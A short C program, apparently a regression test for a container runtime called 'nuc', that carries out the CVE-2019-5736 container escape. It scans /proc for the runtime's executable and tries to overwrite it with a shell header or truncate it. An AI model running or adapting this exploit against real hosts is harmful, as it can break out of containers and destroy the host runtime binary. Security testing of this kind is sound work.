// Looks for nuc's program behind each new process and tries to write to it, for
// so many seconds (CVE-2019-5736).
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	long closed = 0, opened = 0, written = 0;
	time_t end = time(NULL) + atoi(argv[1]);
	puts("looking");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		for (struct dirent *e; (e = readdir(proc));) {
			char path[64], target[256] = "";
			if (atoi(e->d_name) < 2 || atoi(e->d_name) == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0) {
				closed += errno == EACCES || errno == EPERM;
				// A file that can't be read may still be written to.
				fd = open(path, O_WRONLY | O_CLOEXEC);
				if (fd >= 0)
					written += write(fd, "#!/bin/sh\n", 10) > 0;
				if (fd < 0)
					fd = open(path, O_PATH | O_CLOEXEC);
				if (fd < 0)
					continue;
			}
			char self[64];
			snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
			readlink(self, target, sizeof target - 1);
			if (strstr(target, "memfd:") || strstr(target, "nuc")) {
				opened++;
				for (int i = 0; i < 20000; i++) {
					int w = open(self, O_WRONLY | O_CLOEXEC);
					if (w < 0)
						continue;
					written += write(w, "#!/bin/sh\n", 10) > 0 || ftruncate(w, 0) == 0;
					close(w);
					break;
				}
			}
			close(fd);
		}
		closedir(proc);
	}
	printf("closed %ld opened %ld written %ld\n", closed, opened, written);
}
